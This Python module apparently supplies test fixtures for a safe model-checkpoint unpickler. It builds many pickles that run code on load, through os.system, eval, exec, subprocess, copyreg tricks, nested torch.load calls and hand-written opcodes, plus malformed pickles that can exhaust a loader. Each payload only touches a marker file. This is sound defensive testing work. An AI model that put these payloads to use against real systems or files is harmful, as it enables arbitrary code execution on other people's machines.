"""Pickles that run something when they are opened the ordinary way, and others that no pickler would write."""

from __future__ import annotations

import io
import os
import pickle
import struct
from collections import OrderedDict
from pathlib import Path
from typing import Any

import numpy as np
import torch


class Call:
    """Pickles as a call of any function, and then, if given, the setting of attributes."""

    def __init__(self, function: Any, *given: Any, state: Any = None):
        self.parts = (function, given) if state is None else (function, given, state)

    def __reduce__(self) -> tuple[Any, ...]:
        return self.parts

    def __call__(self) -> None:
        """Only what can be called may stand for a function in a pickle."""


def text(words: str) -> bytes:
    raw = words.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def in_bytes(thing: Any, legacy: bool = True) -> bytes:
    """What torch.save writes of a thing: the bytes that `_load_from_bytes` is called with."""
    file = io.BytesIO()
    torch.save(thing, file, _use_new_zipfile_serialization=not legacy)
    return file.getvalue()


def live(marker: Path) -> dict[str, Any]:
    """Objects whose pickles run something when they are opened the ordinary way."""
    import builtins
    import functools
    import operator
    import subprocess

    shell, code = f"touch {marker}", f"open({str(marker)!r}, 'w').close()"
    evil = Call(os.system, shell)
    return {
        "os.system": evil,
        "builtins.eval": Call(eval, code),
        "builtins.exec": Call(exec, code),
        "getattr of a module": Call(Call(getattr, Call(__import__, "os"), "system"), shell),
        "subprocess.Popen": Call(subprocess.call, ["touch", str(marker)]),
        "functools.partial": Call(Call(functools.partial, os.system, shell)),
        "operator.attrgetter": Call(Call(Call(operator.attrgetter, "system"), Call(__import__, "os")), shell),
        "operator.methodcaller": Call(Call(operator.methodcaller, "system", shell), Call(__import__, "os")),
        "builtins.map": Call(list, Call(map, os.system, [shell])),
        "builtins.open": Call(open, str(marker), "w"),
        "pickle.loads": Call(pickle.loads, pickle.dumps(evil)),
        "torch.load": Call(torch.load, Call(io.BytesIO, in_bytes(evil)), None, None),
        "nested in _load_from_bytes": Call(torch.storage._load_from_bytes, in_bytes(evil)),
        "nested in a zip in _load_from_bytes": Call(torch.storage._load_from_bytes, in_bytes(evil, legacy=False)),
        "deep in _load_from_bytes": Call(torch.storage._load_from_bytes, in_bytes([{"a": Call(eval, code)}])),
        "_load_from_bytes in _load_from_bytes": Call(
            torch.storage._load_from_bytes, in_bytes(Call(torch.storage._load_from_bytes, in_bytes(evil)))
        ),
        "a numpy array of objects": np.array([evil, 1], dtype=object),
        "a key of a table": {"a": [(1, {"b": Call(builtins.eval, code)})]},
        "the settings": OrderedDict(z_dim=evil),
        "a tensor's hooks": Call(torch._utils._rebuild_parameter, torch.zeros(2), True, OrderedDict(a=evil)),
    }


def crafted(marker: Path) -> dict[str, bytes]:
    """Pickles written opcode by opcode."""
    shell = f"touch {marker}"
    command = text(shell)
    line = shell.encode() + b"\n"
    meta = b"ctorch_utils.persistence\n_reconstruct_persistent_obj\n"
    head = b"\x80\x02"
    return {
        "protocol 0": b"cos\nsystem\n(S'" + shell.encode() + b"'\ntR.",
        "INST": b"\x80\x02(" + command + b"ios\nsystem\n.",
        "OBJ": head + b"(cos\nsystem\n" + command + b"o.",
        "NEWOBJ": head + b"csubprocess\nPopen\n" + command + b"\x85\x81.",
        "NEWOBJ_EX": b"\x80\x04" + b"csubprocess\nPopen\n)}\x92.",
        "a persistent id": head + b"P" + line + b".",
        "a persistent id of objects": head + command + b"Q.",
        "EXT1": head + b"\x82\x01.",
        "EXT4": head + b"\x84\x01\x00\x00\x00.",
        "copyreg.add_extension": head + b"ccopyreg\nadd_extension\n" + text("os") + text("system") + b"K\x01\x87R\x82\x01.",
        "copyreg._reconstructor": head + b"ccopyreg\n_reconstructor\ncsubprocess\nPopen\nc__builtin__\nobject\nN\x87R.",
        "copyreg.__newobj__": head + b"ccopyreg\n__newobj__\ncsubprocess\nPopen\n" + command + b"\x86R.",
        "attributes of a function": head + meta + b"N}" + text("__code__") + command + b"s\x86b.",
        "__setstate__ of a table": head + b"ccollections\nOrderedDict\n)R}" + text("__setstate__") + b"cos\nsystem\nsb.",
        "attributes of a class": head + b"ccollections\nOrderedDict\nN}" + text("__reduce__") + b"cos\nsystem\ns\x86b.",
        "attributes of a network": head + meta + meta_of_a_network() + b"\x85R}" + text("a") + b"K\x01sb.",
        "a name with dots": b"\x80\x04" + short("torch_utils.persistence") + short("sys.modules") + b"\x93.",
        "a name through an allowed module": b"\x80\x04" + short("collections") + short("OrderedDict.__init__") + b"\x93)R.",
        "a name that is no text": b"\x80\x04K\x01K\x02\x93.",
        "a call of a tensor's class": head + b"cnumpy\nndarray\n(K\x01tR.",
        "a call of a table": head + b"}" + command + b"\x85R.",
        "torch.hub.load": head + b"ctorch.hub\nload\n" + text("evil/evil") + text("x") + b"\x86R.",
        "webbrowser.open": head + b"cwebbrowser\nopen\n" + text("http://localhost") + b"\x85R.",
        "importlib.import_module": head + b"cimportlib\nimport_module\n" + text("antigravity") + b"\x85R.",
        "types.CodeType": head + b"ctypes\nCodeType\n)R.",
        "torch.jit.load": head + b"ctorch.jit\nload\n" + command + b"\x85R.",
        "a Lua table of torch": head + b"ctorch.serialization\nload_lua\n" + command + b"\x85R.",
        "a class of torch with __setstate__": head + b"ctorch.nn.modules.module\nModule\n)\x81}" + text("a") + b"K\x01sb.",
        "the TensorFlow time": head + b"cdnnlib.tflib.network\nNetwork\n)\x81}b.",
        "numpy.load": head + b"cnumpy\nload\n" + command + b"N\x88\x87R.",
        "a number of objects": head
        + b"cnumpy.core.multiarray\nscalar\ncnumpy\ndtype\n"
        + text("O8")
        + b"\x85R"
        + command
        + b"\x86R.",
        "a network that is a method": head + meta + b"}" + text("type") + text("method") + b"s\x85R.",
        "a storage that is no bytes": head + b"ctorch.storage\n_load_from_bytes\n}\x85R.",
        "a storage that is a table": call_with_bytes(in_bytes({"a": torch.zeros(2)})),
        "a storage that is noise": call_with_bytes(os.urandom(64)),
        "bytes for the shell": head + b"c_codecs\nencode\n(" + command + b"tR.",
        "no stop": head + b"}",
        "an empty stack": head + b"R.",
        "no mark": head + b"K\x01t.",
        "a list as a key": head + b"}]K\x01s.",
        "a memo of four thousand million": head + b"}r\xff\xff\xff\xff" + b"h\x00.",
        "a length that is not there": b"\x80\x04\x8e\xff\xff\xff\xff\xff\xff\xff\x7f.",
        "tuples in tuples as a key": head + b"})" + b"\x85" * 200_000 + b"K\x01s.",
    }


def short(words: str) -> bytes:
    return b"\x8c" + bytes([len(words)]) + words.encode()


def meta_of_a_network() -> bytes:
    return b"}(" + text("type") + text("class") + text("class_name") + text("G") + text("state") + b"}u"


def call_with_bytes(raw: bytes) -> bytes:
    return b"\x80\x03ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(raw)) + raw + b"\x85R."
